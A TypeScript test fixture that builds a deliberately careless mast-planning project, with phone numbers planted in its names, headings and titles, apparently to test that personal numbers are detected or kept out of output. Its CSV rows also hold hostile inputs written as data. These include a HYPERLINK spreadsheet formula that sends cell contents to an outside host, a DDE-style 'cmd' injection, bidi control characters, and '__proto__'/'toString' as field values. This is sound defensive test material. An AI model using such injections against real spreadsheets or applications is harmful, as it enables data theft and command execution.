import type { ProjectFile } from '../../src/model/project.ts';
import { collection, projectOf, square, type Files } from './memory-project.ts';
import { PLANTED, plantedProject } from './planted-project.ts';

/** How people write a mobile number into a cell: `dd` stands for the two digits that tell which one it is. */
const NOTATIONS = [
  '0912 345 6dd',
  '+84-912-345-6dd',
  '(0912)3456dd',
  '0912.345.6dd',
  'O912 345 6dd',
  '０９１２ ３４５ ６dd',
  '0912\u200b345\u200b6dd',
  '84 912 345 6dd',
];

/** Gives a number of its own to each place that a text can be typed into, and remembers where it was. */
class Told {
  readonly places: string[] = [];

  /** The same where a project allows letters, digits and hyphens alone. */
  inId(place: string, name: string): string {
    const index = this.places.push(place) - 1;
    return `${name}-0912-345-6${String(index).padStart(2, '0')}`;
  }

  /** A name with a telephone number behind it. */
  in(place: string, name: string): string {
    const index = this.places.push(place) - 1;
    const digits = String(index).padStart(2, '0');
    return `${name} ${NOTATIONS[index % NOTATIONS.length]!.replace('dd', digits)}`;
  }
}

/** Digits that every number of `Told` ends with, whatever stands between them. */
export const TOLD_NUMBER = /9\D{0,3}1\D{0,3}2\D{0,3}3\D{0,3}4\D{0,3}5\D{0,3}6\D{0,3}(\d\D{0,3}\d)(?!\d)/gu;

const rows = (...lines: readonly (readonly string[])[]): string =>
  lines.map((cells) => `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`).join('');

/**
 * The planted project as a careless clerk would keep it: a telephone number in each name, code, kind, operator,
 * heading, file name and title that the formats let people write.
 */
export function carelessProject(): {
  readonly project: ProjectFile;
  readonly files: Files;
  readonly places: readonly string[];
} {
  const told = new Told();
  const planted = plantedProject();
  const at = (i: number): string[] => PLANTED.masts[i]!.map(String);
  const roadPath = `${told.in('file name', 'đường')}.geojson`;
  const files: Files = {
    ...planted.files,
    'communes.geojson': collection([
      [
        square(104.05, 21.05, 0.05),
        {
          commune_code: '00001',
          commune: told.in('commune', 'Xã Một'),
          commune_kind: told.in('commune kind', 'xã'),
        },
      ],
      [square(104.15, 21.05, 0.05), { commune_code: '00002', commune: 'Xã Hai' }],
    ]),
    'villages.csv': rows(
      [
        'village_code',
        'village',
        'commune_code',
        'lon',
        'lat',
        'population',
        'households',
        'Dân tộc',
        told.in('heading', 'Khác'),
        'Trưởng bản',
      ],
      [
        told.in('village code', 'a1'),
        told.in('village', 'Bản Đông'),
        '00001',
        '104.02',
        '21.02',
        '200',
        '40',
        told.in('people', 'Thái'),
        told.in('unread cell', 'x'),
        told.in('contact', 'Kín'),
      ],
      ['a2', '=HYPERLINK("http://a.b/?"&A1)', '00001', '104.07', '21.09', '150', '30', '', '', ''],
      ['b1', 'Bản \u0007Nam\u202e', '00002', '104.16', '21.01', '120', '25', '', '', ''],
      ['b2', '-1+cmd|x', '00002', '104.18', '21.08', '90', '20', '', '', ''],
      [
        told.in('village code of a row without a name', 'b3'),
        '',
        '00002',
        '104.19',
        '21.02',
        '10',
        '2',
        '',
        '',
        '',
      ],
    ),
    'sites.csv': rows(
      ['site_code', 'site_name', 'operator', 'technology', 'lon', 'lat', 'height_m', 'Ghi chú'],
      [
        told.in('mast code', 'V1'),
        told.in('mast name', 'Đồi'),
        'Viettel',
        '4G',
        ...at(0),
        '42',
        told.in('note', 'gọi'),
      ],
      ['V2', '', 'Viettel', '4G', ...at(1), '38', ''],
      ['M1', '', told.in('operator of a mast', 'Mạng anh Tư'), '4G', ...at(2), '45', ''],
      ['M2', '', 'MobiFone', '4G', ...at(3), '', ''],
      ['P1', '', '__proto__', '4G', '104.0902', '21.0411', '30', ''],
      ['P2', '', 'toString', '4G', '104.0911', '21.0531', '30', ''],
    ),
    'candidates.csv': rows(
      ['Mã vị trí', 'Tên vị trí', 'lon', 'lat', 'radius_m', 'cost_vnd', 'operator'],
      [
        told.in('candidate code', 'C1'),
        told.in('candidate', 'Đồi 1'),
        ...PLANTED.candidates[0]!.map(String),
        '6000',
        '2000000000',
        told.in('operator of a candidate', 'hội chị Ba'),
      ],
      ['C2', 'Đồi 2', ...PLANTED.candidates[1]!.map(String), '6000', '2000000000', ''],
    ),
    'supported.csv': rows(
      ['village_code', 'programme', 'until', 'lon', 'lat'],
      ['a2', told.in('programme', 'Chương trình 1'), '2030-01-01', ...at(1)],
      ['b2', told.in('programme of no village', 'Chương trình 2'), '2025-01-01', '', ''],
    ),
    'restrictions.geojson': collection([
      [
        square(...PLANTED.candidates[0]!, 0.01),
        {
          kind: told.in('kind of land', 'rừng'),
          permitted_by: told.in('permitted by', 'Kiểm lâm'),
          site_name: told.in('name of land', 'Rừng'),
          months: 3,
        },
      ],
    ]),
    [roadPath]: collection([
      [
        {
          type: 'LineString',
          coordinates: [
            [104.01, 21.01],
            [104.19, 21.09],
          ],
        },
        { name: told.in('road', 'Đường'), class: told.in('road class', 'car') },
      ],
    ]),
    'fibre.geojson': collection([
      [
        {
          type: 'LineString',
          coordinates: [
            [104.01, 21.02],
            [104.19, 21.07],
          ],
        },
        { operator: told.in('operator of a cable', 'Cáp ông Năm'), name: told.in('cable', 'Tuyến') },
      ],
    ]),
    'power.geojson': collection([
      [
        {
          type: 'LineString',
          coordinates: [
            [104.01, 21.03],
            [104.19, 21.06],
          ],
        },
        { name: told.in('power line', 'Đường dây') },
      ],
    ]),
    'others.geojson': collection([
      [
        square(104.03, 21.03, 0.02),
        { operator: told.in('operator of coverage', 'Nhà mạng chị Hai'), technology: '4G' },
      ],
    ]),
    'depressions.geojson': collection([
      [
        square(104.17, 21.02, 0.02),
        { name: told.in('depression', 'Lõm'), note: told.in('note of a depression', 'gọi') },
      ],
    ]),
    'crosswalk.csv': rows(
      ['Mã xã cũ', 'Xã cũ', 'Mã xã mới', 'Xã mới'],
      ['09999', told.in('former commune', 'Xã Cũ'), '00001', 'Xã Một'],
    ),
  };
  const sources = planted.project.sources.map((source) =>
    source.role === 'villages'
      ? { ...source, id: told.inId('source id', 'ban'), source: told.in('source', 'Sở') }
      : source,
  );
  const more = projectOf([
    { role: 'supported', path: 'supported.csv' },
    { role: 'restrictions', path: 'restrictions.geojson' },
    { role: 'roads', path: roadPath },
    { role: 'fibre', path: 'fibre.geojson' },
    { role: 'power', path: 'power.geojson' },
    { id: 'others', role: 'coverage', path: 'others.geojson' },
    { role: 'depressions', path: 'depressions.geojson' },
    { role: 'crosswalk', path: 'crosswalk.csv' },
  ]).sources;
  const camera = (center: readonly [number, number]) => ({ center, zoom: 15 });
  return {
    files,
    places: told.places,
    project: {
      ...planted.project,
      title: told.in('title', 'Tỉnh'),
      province: { code: '00', name: told.in('province', 'Thử') },
      sources: [...sources, ...more],
      scenes: [
        {
          id: told.in('scene id', 's'),
          kind: 'plan',
          title: told.in('scene', 'Kế hoạch'),
          camera: camera(PLANTED.masts[2]!),
        },
        {
          id: 's2',
          kind: 'village',
          village: 'a2',
          camera: camera(PLANTED.candidates[0]!),
          notes: told.in('speaker', 'nhớ'),
        },
      ],
      decisions: [
        {
          id: told.in('decision id', 'Q1'),
          what: 'forbid',
          of: told.in('work decided', 'X9'),
          by: 'province',
          on: '2026-10-01',
          why: told.in('why', 'vì'),
        },
      ],
    },
  };
}
